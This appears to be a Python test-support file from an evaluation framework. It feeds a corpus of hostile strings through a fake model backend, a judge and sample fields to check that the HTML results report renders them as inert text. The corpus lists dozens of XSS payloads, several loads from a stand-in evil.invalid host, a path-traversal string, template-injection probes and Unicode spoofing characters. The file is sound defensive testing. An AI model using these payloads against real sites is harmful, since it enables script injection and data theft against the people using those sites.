"""A run in which everything that a model, a judge or a data set can write is a string
that tries to become something else than text, and these strings."""

import base64
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import replace
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from mmeval.backend.capabilities import Capabilities
from mmeval.media.media import Media
from mmeval.media.parts import Interleaved, Part, text_part
from mmeval.metric.contract import metric
from mmeval.program.calls import Program, Role, ask_one
from mmeval.program.protocols import Ask
from mmeval.records.request import Request
from mmeval.records.response import Response
from mmeval.records.sample import Message, Sample
from mmeval.records.score import Score
from mmeval.records.trial import Trial
from mmeval.report.results_file import write_results
from mmeval.run.options import BackendSpec
from mmeval.settings.report_options import ReportContext
from tests.support.task_folder import installed
from tests.support.toy import picture, run_toy, task

# Strings that try to become something else than text: a corpus for every field that a
# model or a data set can fill. Each one that would run calls ``window.__pwned.push``,
# or asks for an address at ``evil.invalid``; a page that shows them all and did
# neither has shown text.

RUN = "window.__pwned.push(1)"

MARKUP = """\
<script>RUN</script>
</script><script>RUN</script>
<!--</script><script>RUN</script>-->
<script src=https://evil.invalid/x.js></script>
<img src=x onerror=RUN>
"><img src=x onerror="RUN">
'><img src=x onerror='RUN'>
<svg onload=RUN>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<math><mtext></p><img src=x onerror=RUN>
<details open ontoggle=RUN>
<video><source onerror=RUN></video>
<input autofocus onfocus=RUN>
<iframe srcdoc='<script>parent.RUN</script>'></iframe>
<iframe src=https://evil.invalid/></iframe>
<object data=https://evil.invalid/x></object>
<link rel=stylesheet href=https://evil.invalid/x.css>
<base href=https://evil.invalid/>
<meta http-equiv=refresh content='0;url=https://evil.invalid/'>
<form action=https://evil.invalid/><button>go</button></form>
<a href=javascript:RUN>click</a>
<style>*{background:url(https://evil.invalid/x)}</style>
<template><script>RUN</script></template>
<noscript><p title='</noscript><img src=x onerror=RUN>'>
<textarea></textarea><img src=x onerror=RUN>
<title></title><script>RUN</script>
<img/src/onerror=RUN>
<x onclick=RUN tabindex=1 id=x onfocus=RUN>#x
<xss style=animation-name:x onanimationstart=RUN>
<select><noembed></select><script>RUN</script>
<svg><style><img src='</style><img src=x onerror=RUN>'></svg>
<svg><a xlink:href=javascript:RUN><text y=9>click</text></a></svg>
<svg><use href='data:image/svg+xml,<svg id=x onload=RUN />#x'/></svg>
<img srcset='https://evil.invalid/x 2x' src=x>
<video poster=https://evil.invalid/x.png autoplay>
<a href=x ping=https://evil.invalid/ download>x</a>
<img name=mmeval id=__pwned><form id=document><input name=body></form>
<plaintext>
<!--
]]>
<![CDATA[<b>x</b>]]>
javascript:RUN
JaVaScRiPt:RUN
vbscript:RUN
data:text/html,<script>parent.RUN</script>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>
https://evil.invalid/pixel.png
//evil.invalid/pixel.png
\\\\evil.invalid\\share\\x.png
file://evil.invalid/share/x.png
../../../../../../etc/passwd
blob:null/x
/\\evil.invalid/x.png
' onerror='RUN
" onerror="RUN
` onerror=`RUN
');RUN;('
");RUN;("
\\");RUN;//
${RUN}
`${RUN}`
*/RUN/*
{{7*7}}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
<%= 7*7 %>
__proto__
__proto__[x]
then
constructor
hasOwnProperty
# heading **bold** [link](javascript:RUN) ![x](https://evil.invalid/x.png)
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;&#x3c;img src=x&#x3e;
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
#trial=x/0/0&text=y
%
%E0%A4%A
خوش آمدید שלום
""".replace("RUN", RUN)
"""Elements and attributes, addresses, what ends a string or is evaluated, and other
writings of these; one a line."""

CHARACTERS = (
    f"java\tscript:{RUN}",
    "data:text/html;base64,"
    f"{base64.b64encode(f'<script>parent.{RUN}</script>'.encode()).decode()}",
    f"\x01javascript:{RUN}",
    f"\u2028{RUN}\u2029",
    f"\n{RUN}\n",
    f"\u0085{RUN}\u000b{RUN}",
    f"//# sourceMappingURL=https://evil.invalid/x.map\n{RUN}",
    "\u202egnp.exe",
    "left\u2066\u2067isolated\u2069right",
    "zero\u200bwidth\u2060joined\ufeff",
    "\ufeffmark",
    "nul\0inside",
    "bell\x07 escape\x1b[31mred\x1b[0m back\x08\x08",
    "lone \ud800 and \udfff surrogates",
    "tag\U000e0041\U000e0042s",
    "a" * 5_000,
    "e" + "\u0301" * 300,
    "\u02bascript\uff1e\uff1cscript\uff1e",
    "",
    " ",
    "\r\n\r\n",
)
"""What bends, hides or breaks writing."""

INJECTIONS = (*MARKUP.splitlines(), *CHARACTERS)


# A run in which everything that a model, a judge or a data set can write is a string
# of the injection corpus.

_PLUGINS = """
[mmeval.metrics]
hostile_evidence = tests.soak.support.hostile.report_run:hostile_evidence
hostile_verdict = tests.soak.support.hostile.report_run:hostile_verdict

[mmeval.model_backends]
hostile = tests.soak.support.hostile.report_run:Hostile
"""
FAILING = 7
"""Of each so many samples one fails, with the string as the message."""


@contextmanager
def registered(site: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    with installed(site, monkeypatch, {"hostile": {}}, more=_PLUGINS):
        yield


def hostile_run(folder: Path) -> Path:
    """The folder of a run with a sample for each string, in all its fields."""
    rows = [_sample(number, text) for number, text in enumerate(INJECTIONS)]
    tasks = [
        task(
            "hostile",
            rows,
            metrics=("hostile_evidence", "hostile_verdict"),
            protocol=_two_turns,
            breakdown=("label",),
        ),
        task("other", rows[:1], metrics=("hostile_evidence",)),
    ]
    named = [_renamed(one, INJECTIONS[at]) for at, one in enumerate(tasks)]
    spec = BackendSpec("hostile", {})
    settings = {"system_instruction": INJECTIONS[0], INJECTIONS[6]: INJECTIONS[7]}
    made = run_toy(folder, *named, model=spec, roles={"judge": spec}, settings=settings)
    context = ReportContext(model="<i>hostile</i>", settings=settings)
    write_results(made, context, moment=datetime(2026, 11, 20))
    return made.folder


def _renamed(one: Any, alias: str) -> Any:
    return replace(
        one,
        alias=alias,
        config={
            **one.config,
            "task_alias": alias,
            "breakdown": ["label", "<u>name</u>"],
        },
    )


def _sample(number: int, text: str) -> Sample:
    labels: Mapping[str, Any] = {
        "label": text,
        "<u>name</u>": text,
        text or "empty": text,
        "deep": [{text: [text]}],
    }
    question = Message(
        "user", Interleaved((text_part(f"{number}|{text}"), *_media(text)))
    )
    return Sample(
        f"{text}{number}",
        (question,),
        (Interleaved((text_part(text), *_media(text))),),
        labels,
    )


def _media(text: str) -> tuple[Part, ...]:
    medium = Media.from_bytes(picture(7).read(), name=text.replace("\0", ""))
    return (
        Part("image", media=medium, label=text),
        Part("image", label=text, raw=text),
    )


class Hostile:
    """Answers with the string that it was asked with, as every kind of part; every
    seventh time it fails with it."""

    capabilities = Capabilities.of(("text", "image"), ("text", "image", "code"))
    provenance: Mapping[str, Any] = {}
    identity: Mapping[str, Any] = {"backend": "hostile"}

    async def generate(self, request: Request) -> Response:
        number, _, text = request.messages[-1].content.text.partition("|")
        if number.isdigit() and int(number) % FAILING == 3:
            return Response.failed("server", text)
        code = [
            Part("code", text=f"```{language}\n{text}\n```")
            for language in (text, "html")
        ]
        words = Media.from_bytes(
            b"plain " + text.encode("utf-8", "replace"), name="x.txt"
        )
        parts = (
            Part("reasoning", text=text),
            text_part(text),
            *code,
            Part("document", media=words),
            *_media(text),
        )
        return Response(Interleaved(parts), served=text, warnings=(text,))

    async def close(self) -> None:
        pass


def _two_turns(ask: Ask) -> Program[Interleaved]:
    """The answer to the second of two requests, so that there are steps."""
    first = yield from ask_one(ask.call())
    first.require()
    second = yield from ask_one(ask.call())
    return second.require()


@metric(range=(0, 1), version="1", source="made for tests")
def hostile_evidence(trial: Trial) -> Score:
    """The string in keys and values of the evidence, and as the reason of those that
    have no score."""
    text = trial.output.text if trial.output is not None else ""
    evidence = {text: text, "nested": {text: [text, {text: text}]}}
    if text.startswith("<"):
        return Score.unscored(text or "nothing", said=evidence)
    return Score(0.5, evidence=evidence, reason=text)


@metric(range=(0, 1), version="1", source="made for tests")
def hostile_verdict(trial: Trial, judge: Role) -> Program[Score]:
    """What the judge says, which is what the answer said."""
    assert trial.output is not None
    said = yield from ask_one(judge.ask(text_part(f"x|{trial.output.text}")))
    return Score(1.0, evidence={"said": said.require().text})
